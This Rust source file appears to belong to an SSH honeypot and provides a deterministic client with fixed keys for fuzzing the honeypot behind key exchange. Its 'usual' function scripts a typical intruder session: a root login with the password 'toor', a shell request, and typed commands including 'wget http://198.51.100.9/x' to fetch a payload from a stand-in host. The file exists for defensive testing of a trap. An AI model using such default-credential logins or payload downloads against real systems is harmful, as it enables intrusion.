//! An SSH client made of the trap's own parts, for whoever fuzzes what stands behind the key exchange.
//!
//! It has no secrets: its numbers are fixed, so that the same messages make the same bytes.

use super::{
    MSG_CHANNEL_OPEN, MSG_CHANNEL_REQUEST, MSG_KEX_INIT, MSG_KEX_REPLY, MSG_KEXINIT, MSG_NEWKEYS, MSG_SERVICE_REQUEST,
    MSG_USERAUTH_REQUEST, MSG_USERAUTH_SUCCESS,
    dice::Dice,
    exchange::Method,
    hostkey::HostKeys,
    kexinit,
    packet::{Incoming, Outgoing},
    wire::{Fields, message, put_string},
};
use crate::{Flow, Session};
use alloc::vec::Vec;
use curve25519_dalek::MontgomeryPoint;
use honeymesh_types::WallTime;

/// How it introduces itself.
const HELLO: &[u8] = b"SSH-2.0-test";
const METHOD: &str = "curve25519-sha256";
const SECRET: [u8; 32] = [9; 32];
/// The ciphers that it can be told to use.
pub const CIPHERS: [&str; 6] = [
    "chacha20-poly1305@openssh.com",
    "aes128-gcm@openssh.com",
    "aes256-gcm@openssh.com",
    "aes128-ctr",
    "aes192-ctr",
    "aes256-ctr",
];
/// The MACs that it can be told to use, with ciphers that need one.
pub const MACS: [&str; 5] =
    ["hmac-sha2-256", "umac-64-etm@openssh.com", "umac-128@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1"];

/// A client that has keys.
pub struct Client {
    incoming: Incoming,
    outgoing: Outgoing,
    dice: Dice,
    packs: bool,
}

/// What it wants.
#[derive(Clone, Copy, Debug)]
pub struct Wants {
    /// One of [`CIPHERS`].
    pub cipher: &'static str,
    /// One of [`MACS`].
    pub mac: &'static str,
    /// Payloads are packed once it is let in.
    pub zlib: bool,
    /// Packets are counted anew behind the exchange.
    pub strict: bool,
}

impl Client {
    /// Exchanges keys with a session that was not opened yet. `None`: the session does not answer as it must.
    #[must_use]
    pub fn meet(session: &mut dyn Session, wants: Wants, now: WallTime) -> Option<Self> {
        let mut client = Self {
            incoming: Incoming::default(),
            outgoing: Outgoing::default(),
            dice: Dice::new(&[3; 32], 1),
            packs: wants.zlib,
        };
        let mut greeting = Vec::new();
        let _ = session.open(&mut greeting);
        let mut answer = said(session, &[HELLO, b"\r\n"].concat(), now)?;
        let ours = wants.offer();
        answer.extend(client.tell(session, &ours, now)?);
        let (theirs, _) = client.next(&answer)?;
        let half = MontgomeryPoint::mul_base_clamped(SECRET).to_bytes();
        let reply = client.tell(session, &message(MSG_KEX_INIT, |out| put_string(out, &half)), now)?;
        let (reply, taken) = client
            .next(&reply)
            .filter(|(payload, _)| payload.first() == Some(&MSG_KEX_REPLY))
            .map(|(payload, taken)| (payload, reply.get(taken..).unwrap_or_default().to_vec()))?;
        let mut fields = Fields(reply.get(1..)?);
        let (key, public) = (fields.string()?, fields.string()?);
        let secret = MontgomeryPoint(public.try_into().ok()?).mul_clamped(SECRET).to_bytes();
        let shared = super::exchange::number(Vec::new(), &secret);
        let hash = Method::X25519.exchange_hash([HELLO, greeting.trim_ascii_end(), &ours, &theirs, key, &half, public], &shared);
        client.next(&taken).filter(|(payload, _)| payload == &[MSG_NEWKEYS])?;
        client.tell(session, &[MSG_NEWKEYS], now)?;
        let agreed = kexinit::read(&ours)?.agree(&HostKeys::of(&[0; 32]))?;
        client.outgoing.rekey(Method::X25519.keys(agreed.incoming, &shared, &hash, &hash, *b"ACE")?, wants.strict);
        client.incoming.rekey(Method::X25519.keys(agreed.outgoing, &shared, &hash, &hash, *b"BDF")?, wants.strict);
        Some(client)
    }

    /// `payload` as the next packet on the wire.
    #[must_use]
    pub fn packet(&mut self, payload: &[u8]) -> Vec<u8> {
        let mut packet = Vec::new();
        self.outgoing.send(payload, &mut self.dice, &mut packet);
        packet
    }

    /// Reads the trap's answer, which must be whole packets. Returns their payloads; `None`: they are none.
    pub fn read(&mut self, mut answer: &[u8]) -> Option<Vec<Vec<u8>>> {
        let mut payloads = Vec::new();
        while !answer.is_empty() {
            let (payload, taken) = self.next(answer)?;
            if payload == [MSG_USERAUTH_SUCCESS] && self.packs {
                self.outgoing.pack();
                self.incoming.unpack();
            }
            payloads.push(payload);
            answer = answer.get(taken..).unwrap_or_default();
        }
        Some(payloads)
    }

    fn next(&mut self, bytes: &[u8]) -> Option<(Vec<u8>, usize)> {
        let mut at = 0;
        while at < bytes.len() {
            let (taken, payload) = self.incoming.take(&bytes[at..]);
            at += taken;
            if let Some(payload) = payload.ok()? {
                return Some((payload, at));
            }
            if taken == 0 {
                return None;
            }
        }
        None
    }

    fn tell(&mut self, session: &mut dyn Session, payload: &[u8], now: WallTime) -> Option<Vec<u8>> {
        let packet = self.packet(payload);
        said(session, &packet, now)
    }
}

fn said(session: &mut dyn Session, mut bytes: &[u8], now: WallTime) -> Option<Vec<u8>> {
    let mut answer = Vec::new();
    while !bytes.is_empty() {
        let step = session.receive(bytes, now, &mut answer);
        if step.flow == Flow::Close {
            return None;
        }
        bytes = bytes.get(step.taken..)?;
    }
    Some(answer)
}

impl Wants {
    fn offer(self) -> Vec<u8> {
        let methods = [METHOD, if self.strict { ",kex-strict-c-v00@openssh.com" } else { "" }].concat();
        let zlib = if self.zlib { "zlib@openssh.com" } else { "none" };
        message(MSG_KEXINIT, |out| {
            out.extend_from_slice(&[1; 16]);
            for list in [&methods, "ssh-ed25519", self.cipher, self.cipher, self.mac, self.mac, zlib, zlib, "", ""] {
                put_string(out, list.as_bytes());
            }
            out.extend_from_slice(&[0; 5]);
        })
    }
}

/// Messages of a usual client, in their order: the service, a password, a channel, a terminal, a shell, something typed.
#[must_use]
pub fn usual() -> [Vec<u8>; 6] {
    let password = message(MSG_USERAUTH_REQUEST, |out| {
        [&b"root"[..], b"ssh-connection", b"password"].iter().for_each(|field| put_string(out, field));
        out.push(0);
        put_string(out, b"toor");
    });
    let channel = message(MSG_CHANNEL_OPEN, |out| {
        put_string(out, b"session");
        [5_u32, 2_000_000, 32_768].iter().for_each(|number| out.extend_from_slice(&number.to_be_bytes()));
    });
    let request = |name: &[u8], rest: &[u8]| {
        message(MSG_CHANNEL_REQUEST, |out| {
            out.extend_from_slice(&[0; 4]);
            put_string(out, name);
            out.push(1);
            out.extend_from_slice(rest);
        })
    };
    let mut typed = alloc::vec![super::MSG_CHANNEL_DATA, 0, 0, 0, 0];
    put_string(&mut typed, b"id\rwget http://198.51.100.9/x\rexit\r");
    [
        message(MSG_SERVICE_REQUEST, |out| put_string(out, b"ssh-userauth")),
        password,
        channel,
        request(b"pty-req", b"\0\0\0\x05xterm\0\0\0\x50\0\0\0\x18\0\0\0\0\0\0\0\0\0\0\0\0"),
        request(b"shell", b""),
        typed,
    ]
}
